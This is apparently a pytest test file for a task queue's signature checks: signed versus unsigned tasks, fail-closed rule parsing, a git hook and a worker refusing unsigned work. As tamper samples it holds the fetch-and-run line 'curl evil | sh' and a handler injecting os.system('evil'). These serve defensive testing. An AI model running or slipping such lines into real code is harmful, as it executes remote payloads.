"""Signed tasks with real ssh-keygen keys: the worker-side rule (verify_task), its chain of trust, the hook."""

from __future__ import annotations

from pathlib import Path

import pytest

from fleetq.core import transitions
from fleetq.core.config import SETTINGS, MachineSpec
from fleetq.core.matching import Seat
from fleetq.git.repo import HookRejected
from fleetq.trust import signing
from support.fleets import Fleets, git
from support.remotes import raw_push
from support.signers import assign, lock_down, resign, sign_as, signers, verdict
from support.workers import WorkerProc, states_of, wait_for

SEAT = Seat(MachineSpec("alpha", capabilities=["run_script"]))


def test_signed_unsigned_and_stranger_tasks(signed_fleet: Fleets, keys, cli) -> None:
    alpha = signed_fleet.first
    bob, mallory = signed_fleet.clone("bob"), signed_fleet.clone("mallory")
    sign_as(mallory, keys["mallory"])
    assert assign(cli, alpha, "good").code == 0
    assert assign(cli, bob, "plain").code == 0
    assert assign(cli, mallory, "evil").code == 0
    assert verdict(alpha, "good") is None
    why = verdict(alpha, "plain")
    assert why and "plain" in why and "created it" in why and "not signed" in why
    why = verdict(alpha, "evil")
    assert why and "not in config/allowed_signers" in why
    # fleetq's own (unsigned) claim does not change what the task runs
    [t] = [t for t in transitions.claim(bob, SEAT, 5) if t.id == "good"]
    assert verdict(alpha, "good", t) is None
    # an unsigned edit of the payload does
    snap = bob.snapshot()
    body = snap.read("queue/claimed/good.yaml").replace(b"echo hi", b"curl evil | sh")
    raw_push(bob, {"queue/claimed/good.yaml": body})
    why = verdict(alpha, "good")
    assert why and "changed what it runs" in why and "not signed" in why
    # a task whose data differs from its committed file is refused too
    t.data["payload"] = {"script": "something else"}
    assert "differs from its committed file" in (verdict(alpha, "good", t) or "")


def test_the_rule_reads_fail_closed() -> None:
    assert signing.require_from(None) is False
    assert signing.require_from(b"lease: 60\n") is False
    assert signing.require_from(b"require_signed: false\n") is False
    assert signing.require_from(b"require_signed: true\n") is True
    assert signing.require_from(b"require_signed: ture\n") is True  # a typo never switches signing off
    assert signing.require_from(b"require_signed: [\n") is True  # nor does a file that does not parse


def test_no_rule_no_check(fleets: Fleets, cli) -> None:
    assert assign(cli, fleets.first, "free").code == 0
    assert verdict(fleets.first, "free") is None


def test_an_unsigned_change_to_the_rule_stops_every_task(signed_fleet: Fleets, keys, cli) -> None:
    alpha = signed_fleet.first
    bob = signed_fleet.clone("bob")
    assert assign(cli, alpha, "good").code == 0
    # bob (no hook on this remote) switches the rule off and adds a key, unsigned
    text = bob.snapshot().read(SETTINGS).replace(b"require_signed: true", b"require_signed: false")
    raw_push(bob, {SETTINGS: text, signing.SIGNERS: signers(keys, "alice", "mallory")}, "relax")
    why = verdict(alpha, "good")
    assert why and "config/" in why and "not signed" in why and "no task runs" in why
    # alice re-signs both files: trust is back, and the rule is what she signed
    lock_down(alpha, keys, "alice")
    assert verdict(alpha, "good") is None
    # unsigned handler code is a protected change too
    raw_push(bob, {"handlers/run_script.py": b"def run(ctx):\n    import os; os.system('evil')\n"}, "handler")
    assert "handlers/run_script.py" in (verdict(alpha, "good") or "")


def test_a_local_pin_beats_the_committed_rule(fleets: Fleets, keys, tmp_path: Path, cli) -> None:
    alpha = fleets.first
    bob = fleets.clone("bob")
    sign_as(alpha, keys["alice"])
    assert assign(cli, alpha, "signed").code == 0
    assert assign(cli, bob, "unsigned").code == 0
    pinned = tmp_path / "pinned_signers"
    pinned.write_bytes(signers(keys, "alice"))
    git(alpha.root, "config", signing.LOCAL_REQUIRE, "true")
    git(alpha.root, "config", signing.LOCAL_SIGNERS, str(pinned))
    # pinned from the root: the unsigned files `fleetq init` wrote are not trusted until someone signs them
    assert "config/agents.yaml was changed by commit" in (verdict(alpha, "signed") or "")
    resign(alpha)
    assert verdict(alpha, "signed") is None
    assert "not signed" in (verdict(alpha, "unsigned") or "")
    # the committed signers file does not count while a file is pinned
    sign_as(bob, keys["mallory"])
    assert assign(cli, bob, "stranger").code == 0
    assert "not in config/allowed_signers" in (verdict(alpha, "stranger") or "")


def test_the_hook_enforces_the_rule(guarded: Fleets, keys, cli) -> None:  # noqa: F811
    alpha = guarded.first
    sign_as(alpha, keys["alice"])
    lock_down(alpha, keys, "alice")  # the rule's parent had no rule: accepted
    bob, mallory = guarded.clone("bob"), guarded.clone("mallory")
    sign_as(mallory, keys["mallory"])
    res = assign(cli, bob, "plain")
    assert res.code == 3 and "it creates task plain, so it must be signed" in res.err and "not signed" in res.err
    assert res.err.count("\n") == 1
    res = assign(cli, mallory, "evil")
    assert res.code == 3 and "not in config/allowed_signers" in res.err
    assert assign(cli, alpha, "good").code == 0
    # fleetq's own unsigned traffic still lands
    [t] = transitions.claim(bob, SEAT, 5)
    transitions.complete(bob, [transitions.Completion("good", t.attempts, "done", {"exit_code": 0})])
    assert states_of(alpha) == {"good": "done"}
    # switching the rule off is itself a change that must be signed
    text = bob.snapshot().read(SETTINGS).replace(b"require_signed: true", b"require_signed: false")
    with pytest.raises(HookRejected, match="it changes config/fleet.yaml"):
        raw_push(bob, {SETTINGS: text})


def test_the_worker_refuses_an_unsigned_task(signed_fleet: Fleets, keys, cli) -> None:
    alpha = signed_fleet.first
    bob = signed_fleet.clone("bob")
    assert assign(cli, alpha, "signed1").code == 0
    assert assign(cli, bob, "unsigned1").code == 0
    w = WorkerProc(signed_fleet.clone("w"), "--burst")
    try:
        assert w.wait(60) == 0, w.log
    finally:
        w.stop()
    wait_for(lambda: states_of(alpha) == {"signed1": "done", "unsigned1": "needs_human"}, 10, what="verdicts")
    t = alpha.snapshot().get("unsigned1")
    assert "not signed" in t.result["error"]
